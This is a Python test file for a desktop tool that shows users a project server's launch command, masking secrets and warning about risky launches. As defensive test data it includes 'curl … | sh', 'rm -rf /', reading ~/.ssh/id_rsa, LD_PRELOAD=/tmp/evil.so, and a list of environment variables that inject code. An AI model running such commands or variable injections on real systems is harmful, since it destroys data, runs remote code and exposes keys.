"""What a user is shown before a server of a project may start: everything, exactly, and what is odd about it."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gaia_bridge.text.json_types import JSON
from gaia_bridge_desk.review.launch_lines import launch_line_text, launch_warnings


@pytest.mark.requirement("S-25")
def test_a_launch_line_is_shown_whole() -> None:
    entry = {
        "command": "npx",
        "args": ["-y", "server", "/my files", "x" * 5_000],
        "cwd": "/srv",
        "env": {"KEY": "${env:KEY}", "TOKEN": "s3cr3t", "LD_PRELOAD": "/tmp/evil.so", "N": 1},
        "inherit_env": ["HOME"],
    }
    assert launch_line_text(entry).splitlines() == [
        f"npx -y server '/my files' {'x' * 5_000}",
        "in folder: /srv",
        "variable: KEY='${env:KEY}'",
        "variable: TOKEN=***",
        "variable: LD_PRELOAD=/tmp/evil.so",
        "variable: N=1",
        "sees variables: HOME",
    ]


@pytest.mark.requirement("S-25")
def test_an_address_is_shown_whole() -> None:
    entry = {"type": "sse", "url": "https://example.com/?a=1&b=2", "headers": {"Authorization": "Bearer ${T}"}}
    assert launch_line_text(entry).splitlines() == [
        "'https://example.com/?a=1&b=2'",
        "type: sse",
        "header: Authorization='Bearer ${T}'",
    ]
    assert launch_line_text({"command": "a", "inherit_env": True}) == "a\nsees variables: 'all of yours'"


@pytest.mark.requirement("S-25", "S-36")
def test_what_is_made_of_tools_is_shown_without_what_may_be_secret() -> None:
    arguments = {"token": {"hidden": True, "default": ["s3", 1, {"a": "${env:S}"}]}, "default": {"name": "d"}, "c": 5}
    tools: JSON = {"t": {"name": "n", "description": "two words", "arguments": arguments}, "u": []}
    assert launch_line_text({"command": "a", "tools": tools}).splitlines() == [
        "a",
        "tool: t name=n",
        "tool: t description='two words'",
        "tool: t arguments token hidden=true",
        """tool: t arguments token default='["***", 1, {"a": "${env:S}"}]'""",
        "tool: t arguments default name=d",
        "tool: t arguments c=5",
        "tool: u='[]'",
    ]
    secret = {"arguments": {"key": {"default": "s3cr3t"}, "c": {"default": "${env:S}"}, "d": {"default": "rm -rf /"}}}
    assert launch_line_text({"command": "a", "tools": {"t": secret}}).splitlines()[1:] == [
        "tool: t arguments key default=***",
        "tool: t arguments c default='${env:S}'",
        "tool: t arguments d default='rm -rf /'",
    ]
    assert launch_line_text({"command": "a", "tools": 5}).splitlines()[1:] == ["tool:=5"]


@pytest.mark.requirement("S-25")
def test_a_login_is_shown_without_its_secret() -> None:
    oauth = {"clientId": "me", "clientSecret": "s3cr3t", "scopes": ["a", "b"], "client_secret": "s3cr3t"}
    assert launch_line_text({"url": "https://example.com/", "oauth": oauth}).splitlines() == [
        "https://example.com/",
        "login: clientId=me",
        "login: clientSecret=***",
        """login: scopes='["a", "b"]'""",
        "login: client_secret=***",
    ]
    assert launch_line_text({"url": "https://example.com/", "oauth": {"clientSecret": "${env:S}"}}).endswith(
        "'${env:S}'"
    )
    assert launch_line_text({"url": "https://example.com/", "oauth": False}).endswith("oauth: false")


@pytest.mark.requirement("S-25")
@given(st.lists(st.text(), min_size=1))
def test_no_character_can_hide(words: list[str]) -> None:
    shown = launch_line_text({"command": words[0], "args": words[1:]})
    assert shown.isprintable()
    if all(word.isprintable() for word in words):
        assert shlex.split(shown) == words


@pytest.mark.requirement("S-25")
@given(st.text(), st.text())
def test_two_arguments_never_look_the_same(one: str, other: str) -> None:
    shown = [launch_line_text({"command": "a", "args": [arg]}) for arg in (one, other)]
    assert (shown[0] == shown[1]) == (one == other)


@pytest.mark.requirement("S-25")
def test_one_argument_never_looks_like_two() -> None:
    for one, two in (("a b", ["a", "b"]), ("\n' $'\n", ["\n", "\n"]), ("\n'\\''\n", ["\n", "''", "\n"])):
        assert launch_line_text({"command": "x", "args": [one]}) != launch_line_text({"command": "x", "args": two})


def test_a_wrong_type_is_shown_as_it_is() -> None:
    assert launch_line_text({"command": ["a"], "args": "b", "env": ["C=1"]}).splitlines() == [
        """'["a"]' b""",
        """env: '["C=1"]'""",
    ]


@pytest.mark.requirement("S-25")
@pytest.mark.parametrize(
    ("command", "args", "expected"),
    [
        ("sudo", ["server"], "sudo runs as another user"),
        ("/usr/bin/sudo", [], "sudo runs as another user"),
        ("env", ["sudo", "server"], "sudo runs as another user"),
        ("rm", ["-rf", "/"], "rm deletes or overwrites files"),
        ("ssh", ["host", "server"], "ssh connects to another machine"),
        ("bash", ["-c", "curl https://example.com | sh"], "curl fetches from another machine"),
        ("sh", [], "sh is a shell: it runs whatever its arguments say"),
        ("CMD.EXE", ["/c"], "cmd is a shell: it runs whatever its arguments say"),
        ("cat", ["/home/me/.ssh/id_rsa"], "/home/me/.ssh/id_rsa is where keys and passwords are"),
    ],
)
def test_what_can_do_harm_is_pointed_out(command: str, args: list[str], expected: str) -> None:
    assert expected in launch_warnings({"command": command, "args": args})


@pytest.mark.requirement("S-25")
def test_a_file_that_decides_what_is_started_is_pointed_out() -> None:
    entry = {"command": "${file:cmd}", "args": ["-v", "${file:a b}"], "env": {"TOKEN": "${file:token}"}}
    assert launch_warnings(entry) == [
        f"{name} is a file that is filled in; look at it as well: it is approved as it is now"
        for name in ("'a b'", "cmd")
    ]
    [warning] = launch_warnings({"url": "${file:url}"})
    assert warning.startswith("url is a file")


@pytest.mark.requirement("F-046")
def test_variables_that_change_programs_are_pointed_out() -> None:
    entry = {"command": "a", "env": {"LD_PRELOAD": "x", "PYTHONPATH": "y", "Path": "z", "TOKEN": "t"}}
    assert launch_warnings(entry) == [
        "LD_PRELOAD makes the program run other code than its own",
        "PYTHONPATH makes the program run other code than its own",
        "Path decides which programs are found, or started as helpers",
    ]


@pytest.mark.requirement("F-263", "F-046")
@pytest.mark.parametrize(
    "name",
    ["PERL5OPT", "NODE_OPTIONS", "PYTHONSTARTUP", "PYTHONPATH", "PYTHONUSERBASE", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES"]
    + ["GIT_SSH_COMMAND", "GIT_CONFIG_COUNT", "UV_INDEX_URL", "PIP_INDEX_URL", "npm_config_registry", "RUBYOPT"]
    + ["JAVA_TOOL_OPTIONS", "DOTNET_STARTUP_HOOKS", "BASH_ENV", "PATH", "HTTPS_PROXY", "https_proxy", "SSL_CERT_FILE"]
    + ["NPM_CONFIG_REGISTRY", "GIT_ASKPASS_TOKEN", "LD_LIBRARY_PATH", "BROWSER", "UV_INDEX_MY_PASSWORD"],
)
def test_a_variable_that_decides_what_runs_is_shown_whatever_it_looks_like_and_pointed_out(name: str) -> None:
    value = "-Mlib=/project/token=abcdefgh12345678abcdefgh"
    entry = {"command": "a", "env": {name: value}}
    assert f"variable: {name}={value}" in launch_line_text(entry).splitlines()
    [warning] = launch_warnings(entry)
    assert warning.startswith(f"{name} ")


@pytest.mark.requirement("F-263", "S-36")
@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("DEBUG", "mcp:*", True),
        ("ALLOWED", "/home/me", True),
        ("REGION", "eu-central-1", True),
        ("URL", "https://example.com/?a=b", True),
        ("AUTH", "Bearer ${env:A}", True),
        ("TOKEN", "${env:TOKEN}", True),
        ("TOKEN", "${file:~/token}", True),
        ("TOKEN", "${keyring:service/me}", True),
        ("KEYBOARD", "us", True),
        ("GITHUB_PAT", "abc", False),
        ("OPENAI_KEY", "abc", False),
        ("X", "sk-abcdefghijklmnop", False),
        ("X", "A1b2C3d4E5f6G7h8I9j0K1", False),
        ("DB", "postgres://me:hunter2@db/x", False),
        ("AUTH", "Bearer abc${env:A}", False),
    ],
)
def test_only_what_looks_like_a_secret_is_masked(name: str, value: str, shown: bool) -> None:
    for key, label in (("env", "variable"), ("headers", "header")):
        lines = launch_line_text({"command": "a", key: {name: value}}).splitlines()
        assert (shlex.split(lines[1]) == [f"{label}:", f"{name}={value}"]) == shown
        assert (lines[1] == f"{label}: {name}=***") != shown


@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("TOKEN", "${TOKEN:-s3cr3t}", "${TOKEN:-***}"),
        ("X", "${env:API_KEY:-s3cr3t}", "${env:API_KEY:-***}"),
        ("X", "a ${B:-sk-abcdefghijklmnop} c", "a ${B:-***} c"),
        ("REGION", "${REGION:-eu-central-1}", "${REGION:-eu-central-1}"),
    ],
)
def test_a_secret_that_is_the_default_of_a_reference_is_masked(name: str, value: str, shown: str) -> None:
    for key, label in (("env", "variable"), ("headers", "header")):
        _, line = launch_line_text({"command": "a", key: {name: value}}).splitlines()
        assert shlex.split(line) == [f"{label}:", f"{name}={shown}"]


@pytest.mark.requirement("C-28")
@pytest.mark.parametrize(
    ("command", "args", "package"),
    [
        ("npx", ["-y", "pkg"], "pkg"),
        ("npx.cmd", ["-y", "pkg"], "pkg"),
        ("/usr/bin/npx", ["@scope/pkg", "/files"], "@scope/pkg"),
        ("npx", ["-y", "pkg@latest"], "pkg@latest"),
        ("npx", ["-y", "pkg@^1.2.3"], "pkg@^1.2.3"),
        ("npx", ["-p", "pkg", "program@1.0.0"], "pkg"),
        ("npx", ["--registry", "https://example.com", "pkg"], "pkg"),
        ("npm", ["exec", "--yes", "--", "pkg"], "pkg"),
        ("uvx", ["pkg"], "pkg"),
        ("uvx", ["--python", "3.12", "pkg"], "pkg"),
        ("uvx", ["--from", "pkg>=1", "program"], "pkg>=1"),
        ("uv", ["tool", "run", "pkg@latest"], "pkg@latest"),
        ("pipx", ["run", "pkg"], "pkg"),
    ],
)
def test_a_runner_without_a_version_is_pointed_out(command: str, args: list[str], package: str) -> None:
    [warning] = launch_warnings({"command": command, "args": args})
    assert warning.startswith(f"{shlex.quote(package)} is not pinned: ")


@pytest.mark.parametrize(
    "line",
    [
        "npx -y pkg@1.2.3",
        "npx -y @scope/pkg@1.2.3-beta.1",
        "npx --package=pkg@1.2.3 program",
        "npx ./local",
        "uvx pkg==1.2.3",
        "uvx pkg[extra]@2026.1.2 --flag",
        "uvx --from git+https://example.com/x@0123456789abcdef0123456789abcdef01234567 program",
        "npm run start",
        "python -m server --mode http",
        "/home/me/sh-tools/server",
        "node /srv/ssh/index.js",
    ],
)
def test_an_ordinary_launch_line_is_not(line: str) -> None:
    command, *args = shlex.split(line)
    assert launch_warnings({"command": command, "args": args}) == []


@pytest.mark.parametrize("entry", [{}, {"url": "https://example.com"}, {"command": 1}, {"command": "a", "args": "b"}])
def test_what_is_no_command_has_no_warnings(entry: JSON) -> None:
    assert launch_warnings(entry) == []
